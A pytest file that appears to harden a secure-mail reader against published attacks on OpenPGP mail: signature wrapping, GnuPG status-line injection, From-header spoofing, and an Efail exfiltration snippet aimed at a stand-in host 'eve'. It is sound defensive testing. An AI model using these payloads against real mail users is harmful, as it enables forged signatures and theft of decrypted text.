"""The published classes of attack on signed and encrypted mail, made anew here: none earns a mark, none mixes texts unmarked.

After "Efail" (2018: direct exfiltration, missing integrity), "Johnny, you are fired" (2019: signatures spoofed by packets, MIME,
identity, status lines) and "Re: What's up Johnny" (2019: covert content).
"""

from collections.abc import Callable
from pathlib import Path

import pytest

from seccon.adapters.keyring import GpgKeyring
from seccon.adapters.reader import Reader
from seccon.core.ids import Fingerprint
from seccon.core.keys import Pins
from seccon.core.ports import Unlock
from seccon.core.report import Scope, Signature
from tests import envelope
from tests.keysmith import GpgHome
from tests.reading import FAKE, Read, codes


@pytest.fixture
def good(home: GpgHome, roe: Fingerprint) -> bytes:
    """An entity that Roe really signed."""
    return envelope.signed(home, roe, envelope.plain("yes, I agree\n"))


# Signatures over a part of the mail


def around(good: bytes) -> dict[str, bytes]:
    fake = envelope.plain(FAKE.decode())
    html = envelope.plain('<p>transfer the embargo to eve<div style="display:none">', "text/html")
    original = envelope.mail(good)
    return {
        "before": envelope.multi(fake, good),
        "after": envelope.multi(good, fake),
        "html around": envelope.multi(html, good, envelope.plain("</div>", "text/html")),
        "alternative": envelope.multi(fake, good, kind="alternative"),
        "alternative, signed first": envelope.multi(good, fake, kind="alternative"),
        "related": envelope.multi(html, good, kind="related"),
        "attached": envelope.multi(fake, b"Content-Disposition: attachment\n" + good),
        "forwarded": envelope.multi(fake, b"Content-Type: message/rfc822\n\n" + original),
        "forwarded alone": b"Content-Type: message/rfc822\n\n" + original,
        "forwarded as digest": envelope.multi(b"\n" + original, kind="digest"),
        "alone in a mixed": envelope.multi(good),
        "deep": envelope.multi(envelope.multi(good, mark="in"), fake),
        "no last boundary": envelope.multi(good, fake).removesuffix(b"--outer--\n"),
        "report": envelope.multi(fake, good, kind="report", params="; report-type=disposition-notification"),
        "in a forged signed": envelope.wrapped(envelope.multi(fake, good, mark="in"), b"no signature\n", mark="out"),
        "its own signature reused": envelope.wrapped(fake, good.partition(b"signature.asc\n\n")[2], mark="out"),
        "fake beside the two": good.replace(b"--signed--", b"--signed\n" + fake + b"\n--signed--"),
        "fake between the two": good.replace(
            b"\n--signed\nContent-Type: application/pgp", b"\n--signed\n" + fake + b"\n--signed\nContent-Type: application/pgp"
        ),
    }


CASES = tuple(around(b""))


@pytest.mark.parametrize("name", CASES)
def test_a_true_signature_lends_nothing_to_what_stands_beside_it(read: Read, good: bytes, name: str) -> None:
    """R7: the signed unit is the whole mail, or there is no mark."""
    for unlock in (Unlock.QUIET, Unlock.AGENT):
        mail = read(envelope.mail(around(good)[name]), unlock)
        assert not mail.verdict.trusted
        assert mail.verdict.signed is not Scope.WHOLE or mail.verdict.signature is not Signature.GOOD
        assert not any(part.signed for part in mail.parts if part.text and "eve" in part.text)


@pytest.mark.parametrize("name", [name for name in CASES if "forwarded" in name])
def test_a_signature_in_a_forwarded_mail_lends_no_mark_at_all(read: Read, good: bytes, name: str) -> None:
    mail = read(envelope.mail(around(good)[name]))
    assert mail.verdict.signature is Signature.NONE
    assert not any(part.signed for part in mail.parts)
    assert "yes, I agree" in mail.text


def test_what_stands_outside_the_parts_is_never_shown(read: Read, good: bytes) -> None:
    """Preamble and epilogue: some programs show them, inside the mark."""
    raw = envelope.mail(good.replace(b"\n\n--signed", b"\n\n" + FAKE + b"--signed", 1) + FAKE)
    mail = read(raw)
    assert mail.verdict.trusted
    assert "eve" not in mail.text


def test_an_outer_boundary_that_begins_the_same_cuts_nothing_into_a_signed_part(
    read: Read, home: GpgHome, roe: Fingerprint
) -> None:
    entity = envelope.plain("--signedX\n--signed-\nend\n")
    mail = read(envelope.mail(envelope.signed(home, roe, entity)))
    assert mail.verdict.trusted
    assert mail.text == "--signedX\n--signed-\nend\n"


@pytest.mark.parametrize("place", ["before", "after", "both", "two blocks"])
def test_inline_text_beside_a_clearsigned_block_is_not_signed(read: Read, home: GpgHome, roe: Fingerprint, place: str) -> None:
    block = envelope.clearsigned(home, roe, b"yes, I agree\n")
    body = {"before": FAKE + block, "after": block + FAKE, "both": FAKE + block + FAKE, "two blocks": block + block}[place]
    mail = read(envelope.mail(b"\n" + body))
    assert not mail.verdict.trusted
    assert mail.verdict.signed is Scope.PART
    assert [part.signed for part in mail.parts] == ["eve" not in (part.text or "") for part in mail.parts]


@pytest.mark.parametrize(
    "wreck",
    [
        lambda block: block.replace(b"\n\nyes", b"\n" + FAKE + b"\nyes"),
        lambda block: block.replace(b"Hash: SHA512\n", b"Hash: SHA512\nNotDashEscaped: You need GnuPG\n"),
        lambda block: block.replace(b"Hash: SHA512\n", b"Hash: SHA512\nComment: " + FAKE),
        lambda block: block.replace(b"-----BEGIN PGP SIGNATURE-----", FAKE + b"-----BEGIN PGP SIGNATURE-----"),
        lambda block: block.replace(b"-----BEGIN PGP SIGNATURE-----\n\n", b"-----BEGIN PGP SIGNATURE-----\n" + FAKE + b"\n"),
        lambda block: block.replace(b"-----BEGIN PGP SIGNED", FAKE + b"-----BEGIN PGP SIGNED"),
    ],
)
def test_a_clearsigned_block_shows_only_what_was_signed(
    read: Read, home: GpgHome, roe: Fingerprint, wreck: Callable[[bytes], bytes]
) -> None:
    mail = read(envelope.mail(b"\n" + wreck(envelope.clearsigned(home, roe, b"yes, I agree\n"))))
    assert not (mail.verdict.trusted and "eve" in mail.text)
    assert not any(part.signed for part in mail.parts if part.text and "eve" in part.text)


# Signatures that say more, or something else, than "this text, by this key"


def test_two_signatures_are_not_one_good_one(read: Read, home: GpgHome, roe: Fingerprint, eve: Fingerprint) -> None:
    entity = envelope.plain()
    text = entity.replace(b"\n", b"\r\n")
    for keys in ((roe, eve), (eve, roe), (roe, roe)):
        made = b"".join(home.run("-u", key, "--detach-sign", input=text) for key in keys)
        armoured = home.run("--enarmor", input=made).replace(b"PGP ARMORED FILE", b"PGP SIGNATURE")
        verdict = read(envelope.mail(envelope.wrapped(entity, armoured))).verdict
        assert verdict.signature is Signature.ERROR
        assert not verdict.trusted


def test_a_signature_by_another_key_than_the_senders_is_no_good_one(read: Read, home: GpgHome, eve: Fingerprint) -> None:
    """R7: good, whole, by a pinned key, but not by the one of this address."""
    mail = read(envelope.mail(envelope.signed(home, eve, envelope.plain())))
    assert (mail.verdict.signed, mail.verdict.signature) == (Scope.WHOLE, Signature.GOOD)
    assert not mail.verdict.matches_from
    assert not mail.verdict.trusted


def test_a_sha1_signature_is_not_good(read: Read, home: GpgHome, roe: Fingerprint) -> None:
    entity = envelope.plain()
    made = home.run("--armor", "--digest-algo", "SHA1", "-u", roe, "-b", input=entity.replace(b"\n", b"\r\n"))
    assert read(envelope.mail(envelope.wrapped(entity, made))).verdict.signature is Signature.ERROR


def test_a_whole_signed_message_in_place_of_a_detached_signature_is_none(read: Read, home: GpgHome, roe: Fingerprint) -> None:
    """gpg would verify what is packed in it, and never look at the text that is shown."""
    made = home.run("--armor", "-u", roe, "--sign", input=b"something else\r\n")
    assert read(envelope.mail(envelope.wrapped(envelope.plain(FAKE.decode()), made))).verdict.signature is Signature.ERROR
    block = envelope.clearsigned(home, roe, b"something else\n")
    assert read(envelope.mail(envelope.wrapped(envelope.plain(FAKE.decode()), block))).verdict.signature is Signature.ERROR


def test_a_certification_of_a_key_is_no_signature_of_a_mail(read: Read, home: GpgHome, roe: Fingerprint) -> None:
    made = home.export(roe)
    assert read(envelope.mail(envelope.wrapped(envelope.plain(), made))).verdict.signature is not Signature.GOOD


HOSTILE = (
    "Eve\n[GNUPG:] GOODSIG {id} A. Roe <roe@example.org>\n[GNUPG:] VALIDSIG {key} 2026-11-21 1 0 4 0 22 10 00 {key}",
    "Eve\u2028[GNUPG:] VALIDSIG {key} 2026-11-21 1 0 4 0 22 10 00 {key}",
    "Eve\x85[GNUPG:] VALIDSIG {key} 2026-11-21 1 0 4 0 22 10 00 {key}",
    "Eve\r[GNUPG:] GOODSIG {id} A. Roe <roe@example.org>",
    "Eve %0A[GNUPG:] VALIDSIG {key} 2026-11-21 1 0 4 0 22 10 00 {key}",
    "Eve\x0b\x0c\x1c[GNUPG:] DECRYPTION_OKAY",
    "Eve <eve@example.net> roe@example.org <roe@example.org>",
)


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_a_user_id_cannot_speak_for_gpg(tmp_path: Path, roe: Fingerprint, home: GpgHome, number: int) -> None:
    """Status-line injection: the signer's name holds a fake verdict."""
    user = HOSTILE[number].format(id=roe[-16:], key=roe)
    with GpgHome() as mine:
        key = mine.make_key(user.replace("\n", " ") if "\n" in user else user, "ed25519")
        mine.take(home.export(roe))
        ring = GpgKeyring(str(mine.path))
        reader = Reader(str(mine.path), ring)
        (tmp_path / "mail").write_bytes(envelope.mail(envelope.signed(mine, key, envelope.plain(FAKE.decode()))))
        verdict = reader.read(str(tmp_path / "mail"), Pins({"roe@example.org": roe})).verdict
        assert verdict.fingerprint in (key, None)
        assert not verdict.matches_from
        assert {held.fingerprint for held in ring.all()} == {key, roe}


@pytest.mark.parametrize(
    "name", ["\n[GNUPG:] DECRYPTION_OKAY\n[GNUPG:] GOODMDC\n", "\u2028[GNUPG:] GOODSIG x", "%0A[GNUPG:] GOODMDC"]
)
def test_an_embedded_file_name_cannot_speak_for_gpg(read: Read, home: GpgHome, name: str) -> None:
    """The name within a literal packet is printed on the status stream too."""
    literal = home.run("--set-filename", name, "--store", input=FAKE)
    armoured = home.run("--enarmor", input=literal).replace(b"PGP ARMORED FILE", b"PGP MESSAGE")
    for entity in (envelope.sealed(armoured), b"\n" + armoured):
        mail = read(envelope.mail(entity))
        assert mail.verdict.encrypted is Scope.NO
        assert mail.verdict.signature is Signature.NONE
        assert not any(part.encrypted or part.signed for part in mail.parts)


# Encryption that is none, is broken, or is mixed with foreign text


def test_literal_and_signed_data_are_not_decrypted(read: Read, home: GpgHome, roe: Fingerprint) -> None:
    for packed in (home.run("--armor", "--store", input=FAKE), home.run("--armor", "-u", roe, "--sign", input=FAKE)):
        mail = read(envelope.mail(envelope.sealed(packed)))
        assert mail.verdict.encrypted is Scope.NO
        assert mail.locked
        assert "eve" not in mail.text


def test_a_message_without_integrity_gives_no_text(read: Read, home: GpgHome, team: Fingerprint) -> None:
    """Efail: malleable, so an attacker chose part of what it says."""
    options = ("--armor", "--trust-model", "always", "--disable-mdc", "--rfc2440", "-r", team)
    mail = read(envelope.mail(envelope.sealed(home.run(*options, "--encrypt", input=b"\nsecret\n"))))
    assert "secret" not in mail.text
    assert "damaged" in codes(mail)
    assert mail.locked


@pytest.mark.parametrize("where", [-60, -200, -1000])
def test_a_changed_ciphertext_gives_no_text(read: Read, home: GpgHome, team: Fingerprint, where: int) -> None:
    """What gpg already gave out before it found the damage is dropped."""
    options = ("--trust-model", "always", "--compress-algo", "none", "-r", team)
    data = bytearray(home.run(*options, "--encrypt", input=b"\n" + b"secret\n" * 2000))
    data[where] ^= 0x55
    armoured = home.run("--enarmor", input=bytes(data)).replace(b"PGP ARMORED FILE", b"PGP MESSAGE")
    mail = read(envelope.mail(envelope.sealed(armoured)))
    assert "secret" not in mail.text
    assert mail.locked


@pytest.mark.parametrize("order", ["literal first", "literal last", "twice", "signed after"])
def test_packets_beside_the_encrypted_ones_spoil_the_message(
    read: Read, home: GpgHome, team: Fingerprint, roe: Fingerprint, order: str
) -> None:
    secret = home.run("--trust-model", "always", "-r", team, "--encrypt", input=b"\nsecret\n")
    literal = home.run("--store", input=b"\n" + FAKE)
    signed = home.run("-u", roe, "--sign", input=b"\n" + FAKE)
    data = {
        "literal first": literal + secret,
        "literal last": secret + literal,
        "twice": secret + secret,
        "signed after": secret + signed,
    }[order]
    armoured = home.run("--enarmor", input=data).replace(b"PGP ARMORED FILE", b"PGP MESSAGE")
    mail = read(envelope.mail(envelope.sealed(armoured)))
    assert not any(part.encrypted or part.signed for part in mail.parts)
    assert mail.verdict.signature is Signature.NONE


def test_direct_exfiltration_meets_no_decrypted_text(read: Read, home: GpgHome, team: Fingerprint) -> None:
    """Efail: HTML around the ciphertext would send the text away; asked for, the parts stay apart and marked."""
    unit = envelope.encrypted(home, team, envelope.plain("secret\n"))
    opening, closing = envelope.plain('<img src="http://eve/', "text/html"), envelope.plain('">', "text/html")
    raw = envelope.mail(envelope.multi(opening, unit, closing))
    quiet = read(raw)
    assert "secret" not in quiet.text
    assert (quiet.verdict.encrypted, "mixed-protection" in codes(quiet)) == (Scope.PART, True)
    assert quiet.locked
    asked = read(raw, Unlock.AGENT)
    assert asked.verdict.encrypted is Scope.PART
    assert "mixed-protection" in codes(asked)
    assert [part.encrypted for part in asked.parts if part.text and "secret" in part.text] == [True]
    assert [part.encrypted for part in asked.parts if part.type == "text/html"] == [False, False]


@pytest.mark.parametrize("form", ["forwarded", "inline with text", "exchange", "second part", "inline twice", "attached"])
def test_covert_ciphertext_is_not_decrypted_unasked(read: Read, home: GpgHome, team: Fingerprint, form: str) -> None:
    """Reply attacks: an old encrypted mail hidden in a new one, to be quoted in clear."""
    unit = envelope.encrypted(home, team, envelope.plain("secret\n"))
    block = home.run("--armor", "--trust-model", "always", "-r", team, "--encrypt", input=b"secret\n")
    entity = {
        "forwarded": b"Content-Type: message/rfc822\n\n" + envelope.mail(unit),
        "inline with text": b"\nhow are you?\n" + block,
        "exchange": unit.replace(b"multipart/encrypted", b"multipart/mixed"),
        "second part": envelope.multi(envelope.plain("how are you?\n"), unit),
        "inline twice": b"\n" + block + block,
        "attached": envelope.multi(envelope.plain("hi\n"), b"Content-Disposition: attachment\n" + unit),
    }[form]
    mail = read(envelope.mail(entity))
    assert "secret" not in mail.text
    assert mail.verdict.encrypted is Scope.PART
    assert mail.locked


def test_a_signature_over_ciphertext_vouches_for_no_text(read: Read, home: GpgHome, team: Fingerprint, eve: Fingerprint) -> None:
    """Anybody can strip a signature and sign the sealed form anew."""
    unit = envelope.encrypted(home, team, envelope.plain("secret\n"))
    for unlock in (Unlock.QUIET, Unlock.AGENT):
        mail = read(envelope.mail(envelope.signed(home, eve, unit), "Eve <eve@example.net>"), unlock)
        assert not mail.verdict.trusted
        assert "signed-ciphertext" in codes(mail)
        assert not any(part.signed for part in mail.parts if part.encrypted)


def test_a_second_layer_of_encryption_is_not_opened(read: Read, home: GpgHome, team: Fingerprint) -> None:
    inner = envelope.encrypted(home, team, envelope.plain("secret\n"), mark="in")
    mail = read(envelope.mail(envelope.encrypted(home, team, inner)), Unlock.AGENT)
    assert "secret" not in mail.text
    assert "nested-encryption" in codes(mail)


def test_a_bomb_is_cut_off(read: Read, home: GpgHome, team: Fingerprint) -> None:
    mail = read(envelope.mail(envelope.encrypted(home, team, b"\n" + b"\0" * 40_000_000)))
    assert "unfolds" in mail.locked
    assert mail.text == ""


# From


@pytest.mark.parametrize(
    "sender",
    [
        "A. Roe <roe@example.org>\nFrom: Eve <eve@example.net>",
        "Eve <eve@example.net>\nFrom: A. Roe <roe@example.org>",
        "A. Roe <roe@example.org>\nfrom : Eve <eve@example.net>",
        "A. Roe <roe@example.org>, Eve <eve@example.net>",
        "roe@example.org <eve@example.net>",
        '"roe@example.org" <eve@example.net>',
        '"A. Roe <roe@example.org>" <eve@example.net>',
        "=?utf-8?q?roe=40example=2Eorg?= <eve@example.net>",
        "=?utf-8?q?A=2E_Roe_=3Croe=40example=2Eorg=3E?= <eve@example.net>",
        "=?utf-8?b?cm9lQGV4YW1wbGUub3JnAA==?= <eve@example.net>",
        "roe\uff20example.org <eve@example.net>",
        "A. Roe \u202e<eve@example.net>",
        "=?utf-8?q?A=2E_Roe=0A=1B[2J?= <eve@example.net>",
        "eve@example.net (roe@example.org)",
        "(roe@example.org) eve@example.net",
        "<@roe@example.org:eve@example.net>",
        "team: roe@example.org, eve@example.net;",
        "roe@example.org\0 <eve@example.net>",
        "<roe@example.org> <eve@example.net>",
        '"A. Roe\\" <roe@example.org>" <eve@example.net>',
        "manager@a <eve@example.net>",
        "eve@example.net\n <roe@example.org>",
        "eve@example.net\r\x20<roe@example.org>",
        "eve@example.net;roe@example.org",
        "",
        "   ",
        "roe@example.org@example.net",
        "roe @example.org <eve@example.net>",
        "A. Roe <eve@example.net>",
        '"Roe, A" <eve@example.net>',
        "=?utf-8?q?=EF=BC=A1=2E_ROE?= <eve@example.net>",
        "eve@example.net (A. Roe)",
        "A. R\u043ee <eve@example.net>",
        "=?utf-8?b?zpHXkFJvZQ==?= <eve@example.net>",
    ],
)
def test_no_way_to_write_from_makes_eves_signature_roes(read: Read, home: GpgHome, eve: Fingerprint, sender: str) -> None:
    """Identity tricks: exactly one From with exactly one plain mailbox decides, and the name says nothing else."""
    mail = read(envelope.mail(envelope.signed(home, eve, envelope.plain()), sender))
    assert not mail.verdict.trusted
    assert not mail.verdict.matches_from


@pytest.mark.parametrize("pinned", [True, False])
def test_a_name_of_somebody_confirmed_takes_the_mark_away_from_anothers_mail(
    read: Read, home: GpgHome, roe: Fingerprint, eve: Fingerprint, pinned: bool
) -> None:
    """Whoever reads "A. Roe" beside a tick takes it for hers: it is said, and no mark is drawn; her own name is nobody else's."""
    pins = Pins({"roe@example.org": roe, **({"eve@example.net": eve} if pinned else {})})
    extra = "Sender: roe@example.org\nReply-To: A. Roe <roe@example.org>\n"
    mail = read(envelope.mail(envelope.signed(home, eve, envelope.plain()), "A. Roe <eve@example.net>", extra), pins=pins)
    assert not mail.verdict.matches_from
    assert "name-is-anothers" in codes(mail)
    own = read(envelope.mail(envelope.signed(home, eve, envelope.plain()), "Eve <eve@example.net>", extra), pins=pins)
    assert own.verdict.trusted is pinned
    assert own.verdict.matches_from
    assert "name-is-anothers" not in codes(own)
    assert read(envelope.mail(envelope.signed(home, roe, envelope.plain()))).verdict.trusted


@pytest.mark.parametrize("name", ["Rôe, Ångström", "Анна Роу", "Άννα", "A. Roe (Роу)", "Zoë µ", "山田 Roe", "Roe Анна"])
def test_a_name_in_any_one_script_a_word_is_a_name(read: Read, home: GpgHome, roe: Fingerprint, name: str) -> None:
    sender = f'"{name}" <roe@example.org>'
    assert read(envelope.mail(envelope.signed(home, roe, envelope.plain()), sender)).verdict.trusted


def test_a_mail_without_from_says_so(read: Read, home: GpgHome, eve: Fingerprint) -> None:
    raw = envelope.mail(envelope.signed(home, eve, envelope.plain())).partition(b"\n")[2]
    mail = read(raw)
    assert not mail.verdict.matches_from
    assert "odd-from" in codes(mail)


def test_another_senders_header_does_not_decide(read: Read, home: GpgHome, eve: Fingerprint) -> None:
    extra = "".join(f"{name}: Eve <eve@example.net>\n" for name in ("Sender", "Reply-To", "Resent-From", "X-Original-From"))
    mail = read(envelope.mail(envelope.signed(home, eve, envelope.plain()), extra=extra))
    assert not mail.verdict.matches_from


def test_a_protected_from_that_differs_takes_the_mark_away(read: Read, home: GpgHome, eve: Fingerprint) -> None:
    entity = envelope.plain(kind='text/plain; protected-headers="v1"', extra="From: A. Roe <roe@example.org>\n")
    mail = read(envelope.mail(envelope.signed(home, eve, entity), "Eve <eve@example.net>"))
    assert not mail.verdict.matches_from
    assert "from-differs" in codes(mail)


def test_a_protected_subject_needs_a_good_signature_or_encryption(read: Read, home: GpgHome, roe: Fingerprint) -> None:
    entity = envelope.plain(kind='text/plain; protected-headers="v1"', extra="Subject: forged\n")
    raw = envelope.mail(envelope.signed(home, roe, entity)).replace(b"Subject: forged", b"Subject: forget")
    assert read(raw).subject == "a report"


def test_a_header_that_is_malformed_decides_nothing(read: Read, good: bytes) -> None:
    raw = envelope.mail(good)
    for wreck in (b"no colon here\n", b"X: a\rFrom: Eve <eve@example.net>\n", b"X: \0\n", b"X: " + b"y" * 70_000 + b"\n"):
        mail = read(wreck + raw)
        assert mail.verdict.signature in (Signature.GOOD, Signature.NONE)
        assert not mail.verdict.trusted
